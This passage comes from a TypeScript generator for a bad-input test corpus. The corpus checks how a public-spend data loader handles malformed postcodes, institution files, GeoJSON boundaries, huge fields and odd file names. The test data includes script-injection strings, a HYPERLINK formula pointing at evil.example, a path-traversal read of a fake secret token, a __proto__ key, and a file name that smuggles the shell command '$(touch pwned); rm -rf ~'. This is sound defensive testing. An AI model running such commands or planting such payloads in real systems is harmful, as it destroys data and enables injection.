      fate: { pence: null, loaded: !row.problem, ...(row.problem ? { reasons: [row.problem] } : {}) },
    }))];
    return { files: { [`${id}.csv`]: csvText(lines) }, target: `${id}.csv`, kind: "postcodes", expect: countsOf(lines) };
  },
});
const live = (postcode: string, lat = "51.5166", long = "-0.0700"): DirectoryRow => ({ cells: [postcode, lat, long, "E09000030", ""] });

const POSTCODES: CaseSpec[] = [
  register("postcode-register-not-a-postcode", "a registered postcode \"NOT A POSTCODE\" (row quarantined)", [{ name: "Wordy Postcode Ltd", postcode: "NOT A POSTCODE", problem: badPostcode() }]),
  register("postcode-register-extra-characters", "postcodes with extra characters (E1 8DE X, E18DEE)", [{ name: "Extra One Ltd", postcode: "E1 8DE X", problem: badPostcode() }, { name: "Extra Two Ltd", postcode: "E18DEE", problem: badPostcode() }]),
  register("postcode-register-digits", "a postcode of digits (12345, a US ZIP code)", [{ name: "Zip Code Inc", postcode: "12345", problem: badPostcode() }]),
  register("postcode-register-markup", "markup and a formula in the postcode column (kept as raw values in quarantine)", [
    { name: "Script Postcode Ltd", postcode: "<script>alert(1)</script>", problem: badPostcode() }, { name: "Formula Postcode Ltd", postcode: "=HYPERLINK(\"http://evil.example\",\"E1 8DE\")", problem: badPostcode() }]),
  register("postcode-register-lower-and-compact", "valid postcodes written e1 8de and E18DE (loaded)", [{ name: "Lower Case Ltd", postcode: "e1 8de" }, { name: "Compact Ltd", postcode: "MK403HU" }]),
  register("postcode-register-terminated", "a terminated postcode (valid in form: loaded; placed by its last known position)", [{ name: "Terminated Postcode Ltd", postcode: "E1 7AA" }]),
  register("postcode-register-pseudo", "an NHS pseudo-postcode (ZZ99 3VZ: valid in form, loaded)", [{ name: "No Fixed Abode Services", postcode: "ZZ99 3VZ" }]),
  register("postcode-register-bad-trading", "a bad trading postcode", [{ name: "Bad Trading Ltd", postcode: "E1 6AN", trading: "LONDON", problem: badPostcode("Trading Postcode") }]),
  register("postcode-register-bad-delivery", "one bad postcode in a list of delivery postcodes", [{ name: "Bad Delivery Ltd", postcode: "E1 6AN", delivery: "E2 9JX; NOWHERE; LU1 2LL", problem: badPostcode("Delivery Postcodes") }]),
  register("postcode-register-blank", "a blank postcode (loaded: the supplier is unlocated)", [{ name: "Blank Postcode Ltd", postcode: "" }]),
  register("postcode-register-bad-flag", "an SME flag of \"maybe\"", [{ name: "Maybe SME Ltd", postcode: "E1 6AN", sme: "maybe", problem: { column: "SME", includes: "yes/no" } }]),
  register("postcode-register-duplicate-supplier", "the same supplier twice (Acme Ltd, ACME LIMITED)", [{ name: "Duplicated Supplier Ltd", postcode: "E1 6AN" }, { name: "DUPLICATED SUPPLIER LIMITED", postcode: "E2 9JX", problem: { column: "Supplier Name", includes: "same supplier" } }]),
  directory("postcode-directory-bad-rows", "a postcode directory with an invalid postcode and a position of 99.999999 (no grid reference)", [
    live("E1 8DE"), { cells: ["NOTAPC", "51.5", "-0.07", "E09000030", ""], problem: { column: "pcds", includes: NOT_A_POSTCODE } },
    { cells: ["E1 6AN", "99.999999", "0.000000", "E09000030", ""], problem: { column: "lat", includes: "latitude" } }, live("E2 9JX", "51.5312", "-0.0580")]),
  directory("postcode-directory-terminated-and-live", "a postcode listed terminated and live: the live row kept, the other quarantined", [
    { cells: ["E1 7AA", "51.5150", "-0.0720", "E09000030", "202001"], problem: { column: null, includes: "same postcode" } }, live("E1 7AA", "51.5151", "-0.0721"), live("E1 7AB", "51.5152", "-0.0722")]),
  directory("postcode-directory-terminated-only", "postcodes listed only as terminated (loaded: kept, marked terminated)", [
    { cells: ["E1 7AC", "51.5153", "-0.0723", "E09000030", "201905"] }, { cells: ["E1 7AD", "51.5154", "-0.0724", "E09000030", "202104"] }, live("E1 7AE", "51.5155", "-0.0725")]),
  directory("postcode-directory-blank-line-before-bad-row", "a blank line, then a bad row: quarantined with its own line number", [
    live("E1 8DF"), { blank: true }, { cells: ["NOTAPC2", "51.5", "-0.07", "E09000030", ""], problem: { column: "pcds", includes: NOT_A_POSTCODE } }, live("E1 8DG")]),
  directory("postcode-directory-ragged-row", "a directory row cut short (no longitude): quarantined", [
    live("E1 8DH"), { text: "E1 8DJ,51.5", problem: { column: "lat", includes: "latitude" } }, live("E1 8DL")]),
  { id: "postcode-directory-unterminated-quote", category: "postcodes", what: "a directory with a quote never closed (refused in words)", make: () => ({
    files: { "postcode-directory-unterminated-quote.csv": `${DIRECTORY_HEADING.join(",")}\nE1 8DN,51.5,-0.07,E09000030,\n"E1 8DP,51.5,-0.07,E09000030,\nE1 8DQ,51.5,-0.07,E09000030,\n` },
    target: "postcode-directory-unterminated-quote.csv", kind: "postcodes", expect: { outcome: "refused", messageIncludes: ["quote"] } }) },
  { id: "postcode-directory-windows-1252", category: "postcodes", what: "a directory in Windows-1252 (a ward name with é): loaded, or refused in words", make: () => {
    const text = `${[...DIRECTORY_HEADING, "ward"].join(",")}\nE1 8DR,51.5,-0.07,E09000030,,Bétheral\nE1 8DS,51.5,-0.07,E09000030,,Poplar\n`;
    return { files: { "postcode-directory-windows-1252.csv": encode(text, "windows-1252") }, target: "postcode-directory-windows-1252.csv", kind: "postcodes",
      expect: { outcome: "loaded", counts: { read: 2, loaded: 2, quarantined: 0 }, quarantine: [] } };
  } },
];

const institutionCase = (id: string, what: string, institution: Bytes | null, outcome: "loaded" | "refused", messageIncludes: string[] = [], extra: Record<string, Bytes> = {}): CaseSpec => ({
  id, category: "institutions", what,
  make: (random) => {
    const lines = plain(cleanRows(random, 4));
    return {
      files: { ...(institution === null ? {} : { "institution.json": institution }), ...extra, [`${id}.csv`]: csvText(lines) },
      target: `${id}.csv`, kind: "spend",
      expect: outcome === "loaded" ? { outcome, rows: rowsOf([{ name: null, lines }]) } : { outcome, messageIncludes },
    };
  },
});

const INSTITUTIONS: CaseSpec[] = [
  institutionCase("institution-missing", "a spend file with no institution.json in its folder or above", null, "refused", ["no institution.json"]),
  institutionCase("institution-not-json", "institution.json that is not JSON", "id: RWK\nname: trust\n", "refused", ["institution.json", "not valid JSON"]),
  institutionCase("institution-empty-file", "an empty institution.json", "", "refused", ["institution.json", "not valid JSON"]),
  institutionCase("institution-no-id", "institution.json without an id", JSON.stringify({ name: "No Id Trust", kind: "nhs-trust" }), "refused", ["institution.json", "\"id\""]),
  institutionCase("institution-id-number", "an institution id that is a number", JSON.stringify({ id: 42, name: "Number Trust", kind: "nhs-trust" }), "refused", ["institution.json", "\"id\""]),
  institutionCase("institution-id-blank", "an institution id of spaces", JSON.stringify({ id: "   ", name: "Blank Trust", kind: "nhs-trust" }), "refused", ["institution.json", "\"id\""]),
  institutionCase("institution-array", "institution.json holding an array", "[]", "refused", ["institution.json", "\"id\""]),
  institutionCase("institution-null", "institution.json holding null", "null", "refused", ["institution.json", "\"id\""]),
  institutionCase("institution-no-kind", "institution.json without a kind", JSON.stringify({ id: "bad:no-kind", name: "No Kind" }), "refused", ["institution.json", "\"kind\""]),
  institutionCase("institution-bom", "institution.json saved with a UTF-8 byte-order mark (loaded)", `\uFEFF${institutionJson("institution-bom")}`, "loaded"),
  institutionCase("institution-markup-id", "an institution id of HTML (<script>…): loaded, stored as given", JSON.stringify({ id: "<script>alert('inst')</script>", name: "<b>Markup</b> Trust", kind: "nhs-trust" }), "loaded"),
  institutionCase("institution-mapping-not-json", "a mapping.json that is not JSON", institutionJson("institution-mapping-not-json"), "refused", ["mapping.json", "not valid JSON"], { "mapping.json": "{columns: amount}" }),
  institutionCase("institution-mapping-unknown-field", "a mapping.json naming an unknown field", institutionJson("institution-mapping-unknown-field"), "refused", ["mapping.json", "unknown field"], { "mapping.json": JSON.stringify({ columns: { cost: "Total" } }) }),
  institutionCase("institution-mapping-bad-vat", "a mapping.json whose vatBasis is \"maybe\"", institutionJson("institution-mapping-bad-vat"), "refused", ["mapping.json", "vatBasis"], { "mapping.json": JSON.stringify({ vatBasis: "maybe" }) }),
  institutionCase("institution-mapping-empty-heading", "a mapping.json mapping amount to an empty heading", institutionJson("institution-mapping-empty-heading"), "refused", ["mapping.json", "columns.amount"], { "mapping.json": JSON.stringify({ columns: { amount: " " } }) }),
  { id: "institution-json-itself-bom", category: "institutions", what: "an institution.json with a byte-order mark, loaded on its own", make: () => ({
    files: { "institution.json": `\uFEFF${institutionJson("institution-json-itself-bom")}` }, target: "institution.json", kind: "institution",
    expect: { outcome: "loaded", counts: { read: 1, loaded: 1, quarantined: 0 }, quarantine: [] } }) },
  { id: "institution-nested-folders", category: "institutions", what: "a spend file three folders below its institution.json (loaded)", make: (random) => {
    const lines = plain(cleanRows(random, 4));
    return { files: { "institution.json": institutionJson("institution-nested-folders"), "a/b/c/institution-nested-folders.csv": csvText(lines) }, target: "a/b/c/institution-nested-folders.csv", kind: "spend",
      expect: { outcome: "loaded", rows: rowsOf([{ name: null, lines }]) } };
  } },
];

// Definitions: a square around Whitechapel, anticlockwise as RFC 7946 asks.
type Ring = number[][];
const SQUARE: Ring = [[-0.08, 51.51], [-0.06, 51.51], [-0.06, 51.53], [-0.08, 51.53], [-0.08, 51.51]];
const HOLE: Ring = [[-0.075, 51.515], [-0.075, 51.525], [-0.065, 51.525], [-0.065, 51.515], [-0.075, 51.515]];
const polygon = (...rings: unknown[]) => ({ type: "FeatureCollection", features: [{ type: "Feature", properties: { name: "area" }, geometry: { type: "Polygon", coordinates: rings } }] });

interface DefinitionCase {
  id: string;
  what: string;
  definition?: unknown;
  text?: Bytes;
  geojson?: unknown;
  geojsonText?: string;
  extra?: Record<string, Bytes>;
  refused?: string[];
  knownBug?: string;
  messageMustNotInclude?: string[];
  mustNotAppear?: string[];
  count?: number;
}
const definitionOf = (id: string, area: Record<string, unknown>) => ({ id, version: 1, name: `Bad-input corpus: ${id}`, description: `Definition for the ${id} case.`, ...area });
const polygonDefinition = (id: string) => definitionOf(id, { kind: "polygon", file: `${id}.geojson` });

const definitionCase = (spec: DefinitionCase): CaseSpec => ({
  id: spec.id, category: "definitions", what: spec.what, ...(spec.knownBug ? { knownBug: spec.knownBug } : {}),
  make: () => {
    const geojson = spec.geojsonText ?? (spec.geojson === undefined ? undefined : JSON.stringify(spec.geojson));
    return {
      files: {
        [`definitions/${spec.id}.json`]: spec.text ?? `${JSON.stringify(spec.definition ?? polygonDefinition(spec.id), null, 2)}\n`,
        ...(geojson === undefined ? {} : { [`definitions/${spec.id}.geojson`]: geojson }),
        ...spec.extra,
      },
      target: `definitions/${spec.id}.json`, kind: "definitions",
      expect: spec.refused ? { outcome: "refused", messageIncludes: spec.refused } : { outcome: "loaded", counts: { read: spec.count ?? 1, loaded: spec.count ?? 1, quarantined: 0 }, quarantine: [] },
      ...(spec.messageMustNotInclude ? { messageMustNotInclude: spec.messageMustNotInclude } : {}),
      ...(spec.mustNotAppear ? { mustNotAppear: spec.mustNotAppear } : {}),
    };
  },
});

/** A union nested `depth` deep, written as text (JSON.stringify of it would itself overflow the stack). */
const nested = (depth: number): string => {
  const icb = (code: string) => `{"kind":"icb","codes":["${code}"]}`;
  const inner = `${'{"kind":"union","of":['.repeat(depth - 1)}${icb("E54000024")}${`,${icb("E54000029")}]}`.repeat(depth - 1)}`;
  return `{"id":"definition-nested-5000-deep","version":1,"name":"Deep","description":"Nested unions","kind":"union","of":[${inner},${icb("E54000029")}]}`;
};

const DEFINITIONS: CaseSpec[] = [
  definitionCase({ id: "definition-polygon-valid", what: "a valid polygon (control)", geojson: polygon(SQUARE) }),
  definitionCase({ id: "definition-polygon-clockwise", what: "an outer ring wound clockwise (rewound, loaded)", geojson: polygon([...SQUARE].reverse()) }),
  definitionCase({ id: "definition-polygon-hole-wrong-winding", what: "a hole wound the same way as its outer ring (rewound, loaded)", geojson: polygon(SQUARE, [...HOLE].reverse()) }),
  definitionCase({ id: "definition-multipolygon-valid", what: "a valid MultiPolygon (control)", geojson: { type: "MultiPolygon", coordinates: [[SQUARE], [SQUARE.map(([x, y]) => [x! + 0.1, y!])]] } }),
  definitionCase({ id: "definition-polygon-unclosed", what: "a ring whose last position is not its first", geojson: polygon(SQUARE.slice(0, 4).concat([[-0.08, 51.52]])), refused: ["not closed"] }),
  definitionCase({ id: "definition-polygon-three-positions", what: "a ring of three positions", geojson: polygon([[-0.08, 51.51], [-0.06, 51.51], [-0.08, 51.51]]), refused: ["at least 4"] }),
  definitionCase({ id: "definition-polygon-bowtie", what: "a self-intersecting ring (a bow tie)", geojson: polygon([[-0.08, 51.51], [-0.06, 51.53], [-0.06, 51.51], [-0.08, 51.53], [-0.08, 51.51]]), refused: ["crosses itself"] }),
  definitionCase({ id: "definition-polygon-hole-crossing-outer", what: "a hole that crosses its outer ring", geojson: polygon(SQUARE, [[-0.07, 51.52], [-0.05, 51.52], [-0.05, 51.525], [-0.07, 51.525], [-0.07, 51.52]]), refused: ["crosses itself"] }),
  definitionCase({ id: "definition-multipolygon-one-bowtie", what: "a MultiPolygon with one self-intersecting part", geojson: { type: "MultiPolygon", coordinates: [[SQUARE], [[[0, 51], [0.1, 51.1], [0.1, 51], [0, 51.1], [0, 51]]]] }, refused: ["crosses itself"] }),
  definitionCase({ id: "definition-polygon-repeated-vertex", what: "a ring with one vertex repeated (valid, as GIS tools often write it): loaded", geojson: polygon([SQUARE[0], SQUARE[1], SQUARE[1], SQUARE[2], SQUARE[3], SQUARE[4]]) }),
  definitionCase({ id: "definition-polygon-latitude-91", what: "a latitude of 91", geojson: polygon([[-0.08, 51.51], [-0.06, 91], [-0.06, 51.53], [-0.08, 51.53], [-0.08, 51.51]]), refused: ["WGS84"] }),
  definitionCase({ id: "definition-polygon-string-coordinates", what: "coordinates written as strings", geojson: polygon(SQUARE.map(([x, y]) => [String(x), String(y)])), refused: ["WGS84"] }),
  definitionCase({ id: "definition-polygon-easting-northing", what: "British National Grid eastings and northings instead of longitude and latitude", geojson: polygon([[533000, 181000], [535000, 181000], [535000, 183000], [533000, 183000], [533000, 181000]]), refused: ["WGS84"] }),
  definitionCase({ id: "definition-geojson-point", what: "a Point, not a polygon", geojson: { type: "Feature", properties: {}, geometry: { type: "Point", coordinates: [-0.07, 51.52] } }, refused: ["Polygon or MultiPolygon"] }),
  definitionCase({ id: "definition-geojson-linestring", what: "a LineString, not a polygon", geojson: { type: "FeatureCollection", features: [{ type: "Feature", properties: {}, geometry: { type: "LineString", coordinates: SQUARE } }] }, refused: ["Polygon or MultiPolygon"] }),
  definitionCase({ id: "definition-geojson-empty-collection", what: "an empty FeatureCollection", geojson: { type: "FeatureCollection", features: [] }, refused: ["at least one polygon"] }),
  definitionCase({ id: "definition-geojson-null-geometry", what: "a Feature whose geometry is null", geojson: { type: "FeatureCollection", features: [{ type: "Feature", properties: {}, geometry: null }] }, refused: ["Polygon or MultiPolygon"] }),
  definitionCase({ id: "definition-geojson-not-json", what: "a boundary file that is not JSON (a shapefile's bytes)", geojsonText: "\u0000\u0000\u0027\u000a shapefile", refused: ["not valid JSON"] }),
  definitionCase({ id: "definition-geojson-empty-file", what: "an empty boundary file", geojsonText: "", refused: ["not valid JSON"] }),
  definitionCase({ id: "definition-geojson-missing", what: "a polygon definition naming a file that is not there", refused: ["no file"] }),
  definitionCase({ id: "definition-geojson-bom", what: "a boundary file with a UTF-8 byte-order mark (loaded)", geojsonText: `\uFEFF${JSON.stringify(polygon(SQUARE))}` }),
  definitionCase({ id: "definition-geojson-outside-folder", what: "a polygon file named ../outside.geojson (outside the definitions folder): refused", definition: definitionOf("definition-geojson-outside-folder", { kind: "polygon", file: "../outside.geojson" }),
    extra: { "outside.geojson": JSON.stringify(polygon(SQUARE.map(([x, y]) => [x! + 0.2, y!]))) }, refused: ["definitions"] }),
  definitionCase({ id: "definition-geojson-outside-secret", what: "a polygon file naming a secret outside the folder (../secret.json): refused without quoting it", definition: definitionOf("definition-geojson-outside-secret", { kind: "polygon", file: "../secret.json" }),
    extra: { "secret.json": "API_TOKEN=sk-live-0123456789abcdef\n" }, refused: ["definitions"], messageMustNotInclude: ["API_TOK", "sk-live"] }),
  definitionCase({ id: "definition-union-with-bad-polygon", what: "a union of an authority list and a self-intersecting polygon", definition: definitionOf("definition-union-with-bad-polygon", {
    kind: "union", of: [{ kind: "local-authorities", codes: ["E09000030"] }, { kind: "polygon", file: "definition-union-with-bad-polygon.geojson" }] }),
    geojson: polygon([[-0.08, 51.51], [-0.06, 51.53], [-0.06, 51.51], [-0.08, 51.53], [-0.08, 51.51]]), refused: ["of[1]", "crosses itself"] }),
  definitionCase({ id: "definition-deprivation-within-bad-polygon", what: "deprivation within an unclosed polygon", definition: definitionOf("definition-deprivation-within-bad-polygon", {
    kind: "deprivation", index: "IoD2025", maxDecile: 2, within: { kind: "polygon", file: "definition-deprivation-within-bad-polygon.geojson" } }), geojson: polygon(SQUARE.slice(0, 4).concat([[-0.07, 51.5]])), refused: ["within", "not closed"] }),
  definitionCase({ id: "definition-list-one-bad", what: "a definitions list of one good and one bad definition (the whole file refused, the good one not loaded)",
    text: JSON.stringify({ definitions: [definitionOf("definition-list-good-one", { kind: "icb", codes: ["E54000029"] }), definitionOf("definition-list-bad-one", { kind: "icb", codes: ["E99"] })] }), refused: ["definition 2", "ICB codes"] }),
  definitionCase({ id: "definition-list-duplicate", what: "the same id and version twice in one file", text: JSON.stringify({ definitions: [definitionOf("definition-list-twice", { kind: "icb", codes: ["E54000029"] }), definitionOf("definition-list-twice", { kind: "icb", codes: ["E54000024"] })] }), refused: ["appears twice"] }),
  definitionCase({ id: "definition-list-empty", what: "an empty definitions list", text: JSON.stringify({ definitions: [] }), refused: ["at least one"] }),
  definitionCase({ id: "definition-null", what: "a definitions file holding null", text: "null", refused: ["JSON object"] }),
  definitionCase({ id: "definition-not-json", what: "a definitions file that is not JSON", text: "{ id: 'x', version: 1 }", refused: ["not valid JSON"] }),
  definitionCase({ id: "definition-id-markup", what: "a definition id of HTML", definition: definitionOf("<script>alert(1)</script>", { kind: "icb", codes: ["E54000029"] }), refused: ["kebab-case"] }),
  definitionCase({ id: "definition-version-string", what: "a version written as a string (\"1\")", definition: { ...definitionOf("definition-version-string", { kind: "icb", codes: ["E54000029"] }), version: "1" }, refused: ["version"] }),
  definitionCase({ id: "definition-unknown-kind", what: "an unknown kind (\"moon\")", definition: definitionOf("definition-unknown-kind", { kind: "moon" }), refused: ["kind"] }),
  definitionCase({ id: "definition-radius-negative", what: "a radius of -5 miles around a site that is not a postcode", definition: definitionOf("definition-radius-negative", { kind: "radius", sites: ["HQ"], distance: -5, unit: "furlongs" }), refused: ["distance", "sites", "unit"] }),
  definitionCase({ id: "definition-windows-1252", what: "a definition saved in Windows-1252 with curly quotes and an en dash in its name (loaded, the text as written)",
    text: encode(JSON.stringify(definitionOf("definition-windows-1252", { name: "Bow – Poplar ‘local’ area", kind: "icb", codes: ["E54000029"] })), "windows-1252"),
    mustNotAppear: ["\u0091", "\u0092", "\u0096"] }),
  definitionCase({ id: "definition-proto-key", what: "a definition carrying a __proto__ key (loaded; nothing polluted)", text: `{"__proto__": {"polluted": "yes"}, ${JSON.stringify(definitionOf("definition-proto-key", { kind: "icb", codes: ["E54000029"] })).slice(1)}` }),
];

export const CASES: CaseSpec[] = [
  ...EMPTY, ...BINARY, ...XLSX_DAMAGED, ...XLSX_SHAPES, ...RAGGED, ...QUOTES, ...DELIMITERS, ...HEADINGS, ...NUL_BYTES, ...ENCODINGS,
  ...AMOUNTS, ...NEGATIVE_AND_ZERO, ...DATES, ...DUPLICATES, ...FORMULAS, ...MARKUP, ...POSTCODES, ...INSTITUTIONS, ...DEFINITIONS,
];

// ---------------------------------------------------------------------------------------------------------
// Cases built at test time: too big to commit, or with file names that do not belong in a repository.

const TEN_MB = 10 * 1024 * 1024;

export const TEST_TIME_CASES: CaseSpec[] = [
  binary("binary-random-64k", "64 KB of seeded random bytes", (r) => randomBytes(r, 65_536), ["NUL"]),
  definitionCase({ id: "definition-nested-5000-deep", what: "unions nested 5,000 deep (refused in words, not a stack overflow)", text: nested(5000), refused: ["nested"] }),
  definitionCase({ id: "definition-20000-bad-codes", what: "20,000 bad authority codes (refused with a message of sensible length)", definition: definitionOf("definition-20000-bad-codes", { kind: "local-authorities", codes: Array.from({ length: 20_000 }, (_, i) => `X${i}`) }),
    refused: ["local authority codes"] }),
  spend("big-field-10mb-supplier", "big", "a quoted supplier name of 10 MB (loaded)", ([a, b, ...rest]) =>
    [heading(), good(a!), good(b!, { supplier: `Big ${"N".repeat(TEN_MB)} Ltd` }), ...rest.map((r) => good(r))]),
  spend("big-field-10mb-amount", "big", "an amount cell of 10 MB of digits (quarantined, kept whole)", ([a, b, ...rest]) => [heading(), good(a!), badAmount(b!, "9".repeat(TEN_MB)), ...rest.map((r) => good(r))]),
  { id: "big-field-10mb-unterminated", category: "big", what: "a quote opened before 10 MB of text and never closed (refused)", make: (random) =>
    refusedSpend("big-field-10mb-unterminated", `${csvText(plain(cleanRows(random, 3)))}01/04/2024,Catering,"${"x".repeat(TEN_MB)}\n`, ["never closed"]) },
  { id: "big-field-10mb-no-heading", category: "big", what: "a first line of 10 MB and no heading row (refused with a short message)",
    make: () => refusedSpend("big-field-10mb-no-heading", `${"z".repeat(TEN_MB)}\nno heading here\n`, ["heading"]) },
  { id: "duplicates-100k-rows", category: "duplicates", what: "100,000 identical rows (all loaded: nothing is de-duplicated)", make: (random) => {
    const [c] = cleanRows(random, 1) as [Clean];
    const line = `${cellsOf(c).join(",")}\n`;
    const rows: ExpectedRow[] = Array.from({ length: 100_000 }, (_, i) => ({ sheet: null, row: i + 2, pence: c.pence, loaded: true, date: c.date }));
    return { files: { "institution.json": institutionJson("duplicates-100k-rows"), "duplicates-100k-rows.csv": `${HEADING.join(",")}\n${line.repeat(100_000)}` }, target: "duplicates-100k-rows.csv", kind: "spend", expect: { outcome: "loaded", rows } };
  } },
  ...[["quotes", "spend \"quoted\" name.csv"], ["shell", "$(touch pwned); rm -rf ~.csv"], ["markup", "<img src=x onerror=alert(1)>.csv"], ["newline", "spend\nnewline.csv"],
    ["escape", "\u001b[2Jcleared.csv"], ["unicode", "spénd £ résumé 東京.csv"], ["long", `${"l".repeat(240)}.csv`]].map(([slug, fileName]): CaseSpec =>
    spend(`file-name-${slug}`, "file-names", `a spend file named ${JSON.stringify(fileName)} (loaded, the path stored as given)`, (rows) => plain(rows), { target: fileName! })),
  { id: "institution-json-is-a-folder", category: "institutions", what: "a folder named institution.json beside the spend file (refused in words)", make: (random) => ({
    files: { "institution.json/README": "a folder, not a file", "institution-json-is-a-folder.csv": csvText(plain(cleanRows(random, 3))) },
    target: "institution-json-is-a-folder.csv", kind: "spend", expect: { outcome: "refused", messageIncludes: ["institution.json"] } }) },
];

// ---------------------------------------------------------------------------------------------------------
// Building cases, for the committed corpus and at test time.

function fnv1a(text: string): number {
  let hash = 0x811c9dc5;
  for (const ch of text) hash = Math.imul(hash ^ ch.charCodeAt(0), 0x01000193) >>> 0;
  return hash;
}

/** Builds a case: its files and what loading its target must do. */
export async function buildCase(spec: CaseSpec): Promise<{ meta: BadCase; files: Record<string, Bytes> }> {
  const built = await spec.make(seededRandom(BAD_SEED ^ fnv1a(spec.id)));
  const { files, ...rest } = built;
  const meta: BadCase = { id: spec.id, category: spec.category, what: spec.what, folder: `${spec.category}/${spec.id}`, ...rest, ...(spec.knownBug ? { knownBug: spec.knownBug } : {}) };
  return { meta, files };
}

/** Writes a case's files under `folder`. */
export async function writeCaseFiles(folder: string, files: Record<string, Bytes>): Promise<void> {
  for (const [path, bytes] of Object.entries(files)) {
    await mkdir(dirname(join(folder, path)), { recursive: true });
    await writeFile(join(folder, path), bytes);
  }
}

/**
 * A large spend file for the fault tests: `rows` seeded rows in the published layout (a title line, UK dates,
 * £ amounts), with its row count and total in pence.
 */
export function largeSpendCsv(rows: number, seed = BAD_SEED, month = "2024-06"): { text: string; rows: number; pence: number } {
  const random = seededRandom(seed);
  const lines = [`Expenditure over £500, ${month}: generated for the fault tests`, HEADING.join(",")];
  let pence = 0;
  for (const c of cleanRows(random, rows, month)) {
    pence += c.pence;
    lines.push(`${dmy(c.date)},${c.type},${c.supplier} ${c.transaction.slice(1, 4)},${c.transaction},"£${withThousands(decimal(c.pence))}"`);
  }
  return { text: `${lines.join("\n")}\n`, rows, pence };
}

function describeExpectation(expect: Expectation): string {
  if (expect.outcome === "refused") return `refused (${expect.messageIncludes.map((w) => `"${w}"`).join(", ")})`;
  if ("counts" in expect) return `loaded: ${expect.counts.read} read, ${expect.counts.loaded} loaded, ${expect.counts.quarantined} quarantined`;
  const loaded = expect.rows.filter((r) => r.loaded);
  const money = loaded.reduce((sum, r) => sum + BigInt(r.pence ?? 0), 0n);
  const head = `${expect.rows.length} read, ${loaded.length} loaded (${money} p), ${expect.rows.length - loaded.length} quarantined`;
  return expect.outcome === "loaded" ? `loaded: ${head}` : `refused, or loaded whole: ${head}`;
}

const README_HEAD = `# Bad-input corpus: malformed and hostile files (issue 9)

Generated: do not edit by hand. Regenerate with \`${COMMAND}\` (seed ${BAD_SEED}; the same run writes the same
bytes). Each case is a folder \`<category>/<case>/\` holding the file to load (named after the case) and what it
needs beside it (an \`institution.json\` with an id of its own, a mapping file, a GeoJSON boundary…). The rows are
synthetic: seeded supplier names, dates and amounts in the published "spend over £500" layout
(Date, Expense Type, Supplier, Transaction Number, Amount), with one fault put into them.

\`cases.json\` holds what loading each case's file must do, computed by the generator from the clean values it
wrote, never by the loader: for a spend file, every row read (sheet and 1-based row, the heading row counted)
with its fate and the pence the publisher wrote when its amount cell holds an amount; for registers, postcode
directories and definitions, the counts; or a refusal and words its message must hold. A case marked with a
known bug states the right behaviour; \`test/reliability/bad-corpus.test.ts\` marks it as failing until the
loader is fixed. Big cases (a 10 MB field, 100,000 duplicate rows) and hostile file names are built at test
time into a temporary folder (\`TEST_TIME_CASES\` in the generator), not committed.

| case | category | what | expected | known bug in |
|---|---|---|---|---|
`;

const markdownCell = (text: string): string => text.replace(/\|/g, "\\|").replace(/\n/g, "\\n").replace(/[\u0000-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\uFEFF]/gu, (ch) => `\\u${ch.charCodeAt(0).toString(16).padStart(4, "0")}`);

async function main(): Promise<void> {
  await rm(OUT, { recursive: true, force: true });
  await mkdir(OUT, { recursive: true });
  const cases: BadCase[] = [];
  const seen = new Map<string, string>();
  for (const spec of CASES) {
    const { meta, files } = await buildCase(spec);
    if (cases.some((c) => c.id === meta.id)) throw new Error(`case id ${meta.id} twice`);
    const target = files[meta.target];
    if (target === undefined) throw new Error(`${meta.id}: no target file ${meta.target}`);
    const sha = createHash("sha256").update(target).digest("hex");
    if (seen.has(sha)) throw new Error(`${meta.id}: same bytes as ${seen.get(sha)} (the second would be "already loaded")`);
    seen.set(sha, meta.id);
    await writeCaseFiles(join(OUT, meta.folder), files);
    cases.push(meta);
  }
  await writeFile(join(OUT, "cases.json"), `[\n${cases.map((c) => JSON.stringify(c)).join(",\n")}\n]\n`);
  const rows = cases.map((c) => `| \`${c.id}\` | ${[c.category, c.what, describeExpectation(c.expect), c.knownBug ? c.knownBug.split(":")[0]! : ""].map(markdownCell).join(" | ")} |`);
  await writeFile(join(OUT, "README.md"), `${README_HEAD}${rows.join("\n")}\n`);
  const categories = new Map<string, number>();
  for (const c of cases) categories.set(c.category, (categories.get(c.category) ?? 0) + 1);
  console.log(`wrote ${cases.length} cases (${[...categories].map(([k, n]) => `${k} ${n}`).join(", ")}) to ${OUT}`);
}

if (process.argv[1] && import.meta.url === pathToFileURL(process.argv[1]).href) await main();
